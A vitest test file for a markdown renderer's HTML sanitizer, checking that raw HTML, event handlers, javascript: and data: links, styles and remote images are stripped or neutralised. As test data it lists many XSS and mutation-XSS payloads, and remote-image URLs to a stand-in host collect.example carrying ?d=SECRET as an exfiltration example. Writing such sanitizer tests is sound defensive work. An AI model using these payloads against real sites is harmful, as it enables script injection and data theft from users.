import { beforeEach, expect, test } from "vitest";
import { renderedHtml } from "../../src/markdown/render";
import { safeHref, sanitized } from "../../src/markdown/sanitize";
import { renderMarkdown } from "../../src/markdown/stream";

declare global {
  interface Window {
    P?: number;
  }
}

beforeEach(() => {
  window.P = undefined as never;
  delete window.P;
});

function shown(markdown: string): HTMLElement {
  const root = document.createElement("div");
  document.body.append(root);
  renderMarkdown(root, markdown);
  return root;
}

/** Time for what was let through to run or to load. */
const settled = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 60));

const foreignRequests = (): string[] =>
  performance
    .getEntriesByType("resource")
    .map((entry) => entry.name)
    .filter((name) => /collect\.example/.test(name));

const RAW = `<img src=x onerror="window.P=1"> <svg/onload=window.P=1> <iframe srcdoc="<script>parent.P=1</script>"></iframe> <b>bold</b>`;

test("raw HTML runs nothing: harmless markup is left", async () => {
  const root = shown(
    `${RAW}\n\n${RAW}\n\n- ${RAW}\n\n| a |\n|---|\n| ${RAW.replaceAll("|", "")} |`,
  );
  await settled();
  expect(window.P).toBeUndefined();
  expect(root.querySelectorAll("b").length).toBeGreaterThan(0);
  expect(
    root.querySelectorAll("img,svg,iframe,script,object,embed,form,input,style,link,meta"),
  ).toHaveLength(0);
});

const VECTORS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.P=1&gt;">`,
  `<svg><animate onbegin=window.P=1 attributeName=x dur=1s>`,
  `<form><input name=attributes><button formaction="javascript:window.P=1">x</button></form>`,
  `<a href="java\u0000script:window.P=1" onclick="window.P=1" id="x" name="y" style="position:fixed">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=window.P=1>">`,
  `<template><img src=x onerror=window.P=1></template>`,
  `<video><source onerror="window.P=1"></video><audio src=x onerror=window.P=1>`,
  `<details open ontoggle=window.P=1>x</details>`,
  `<base href="https://collect.example/"><link rel=stylesheet href="https://collect.example/a.css">`,
  `<div style="background:url(https://collect.example/b)">x</div><table background="https://collect.example/c"><tr><td>x`,
  `<xmp><img src=x onerror=window.P=1></xmp><plaintext><img src=x onerror=window.P=1>`,
];

test.each(VECTORS)("nothing runs, loads or stays of %s", async (html) => {
  const holder = document.createElement("div");
  document.body.append(holder);
  holder.append(sanitized(html));
  for (const element of holder.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      expect(["href", "title", "rel", "target", "open", "alt", "src", "align"]).toContain(name);
    }
  }
  for (const element of holder.querySelectorAll<HTMLElement>("a,button,summary")) element.click();
  await settled();
  expect(window.P).toBeUndefined();
  expect(foreignRequests()).toEqual([]);
});

test("only http, https and mailto become links, with rel and target", () => {
  const root = shown(
    "[a](javascript:P=1) [b](JaVa&#x09;Script:P=1) [c](\u0001javascript:P=1) [d](data:text/html,<script>P=1</script>) <javascript:P=1> [e][r] [f](//example.org) [g](file:///etc/passwd) [v](vbscript:x) [rel](page.html) [hash](#x)\n\n[r]: javascript:P=1",
  );
  expect(root.querySelectorAll("a")).toHaveLength(0);
  for (const word of ["a", "b", "c", "e", "f", "g"]) expect(root.textContent).toContain(word);
  const good = shown(
    "[x](https://a.example/p?q=1) [y](http://b.example) <me@c.example> https://d.example",
  );
  const links = [...good.querySelectorAll("a")];
  expect(links.map((link) => link.protocol)).toEqual(["https:", "http:", "mailto:", "https:"]);
  expect(
    links.every((link) => link.rel === "noopener noreferrer" && link.target === "_blank"),
  ).toBe(true);
});

test.each([
  ["https://a.example", true],
  ["HTTPS://A.example", true],
  ["mailto:x@y.z", true],
  ["java\nscript:1", false],
  [" https://a.example", true],
  ["https:a.example", false],
  ["https://", false],
  ["https://a.example/\u2028x", false],
  ["blob:https://a.example/1", false],
  ["", false],
])("address %j is safe: %s", (address, safe) => {
  expect(safeHref(address) !== null).toBe(safe);
});

test("a remote image becomes a link and is not fetched; one in the text's own data is shown", async () => {
  const pixel = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
  const root = shown(
    `![x](https://collect.example/p.png?d=SECRET) <img src="https://collect.example/q"> ![x](//collect.example/r) <img srcset="https://collect.example/s 2x" alt="set"> ![own](${pixel}) ![svg](data:image/svg+xml;base64,PHN2Zy8+)`,
  );
  await settled();
  expect(foreignRequests()).toEqual([]);
  expect([...root.querySelectorAll("img")].map((img) => img.src)).toEqual([pixel]);
  expect([...root.querySelectorAll("a")].map((a) => a.textContent)).toEqual([
    "image: x",
    "image: https://collect.example/q",
  ]);
  expect(root.textContent).toContain("image: set");
});

test("a style element changes nothing and shows nothing", () => {
  const before = getComputedStyle(document.body).backgroundColor;
  const root = shown(
    "hello <style>body{background:red!important} .jp-Toolbar{display:none}</style> there",
  );
  expect(getComputedStyle(document.body).backgroundColor).toBe(before);
  expect(root.textContent).not.toContain("background");
  expect(root.textContent).toContain("hello");
});

test("classes, ids and styles of others do not get in", () => {
  const holder = document.createElement("div");
  holder.append(
    sanitized(
      '<p id="a" class="jp-Toolbar esc" style="color:red" data-x="1" aria-label="z"><code class="language-py">x</code></p>',
    ),
  );
  expect(holder.innerHTML).toBe('<p><code class="language-py">x</code></p>');
});

test("a data frame keeps its table; columns of numbers are marked, text columns are not", () => {
  const holder = document.createElement("div");
  holder.append(
    renderedHtml(
      `<style scoped>td{color:red}</style><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>name</th><th>mass</th></tr></thead><tbody><tr><th>0</th><td>a</td><td>1,234.5</td></tr><tr><th>1</th><td>b</td><td>NaN</td></tr></tbody></table><script>window.P=1</script>`,
    ),
  );
  const headers = [...holder.querySelectorAll("thead th")].map((th) => th.className);
  expect(headers).toEqual(["num", "", "num"]);
  expect(holder.querySelector(".table-box > table")).not.toBeNull();
  expect(holder.querySelectorAll("style,script,[style],[border]")).toHaveLength(0);
});
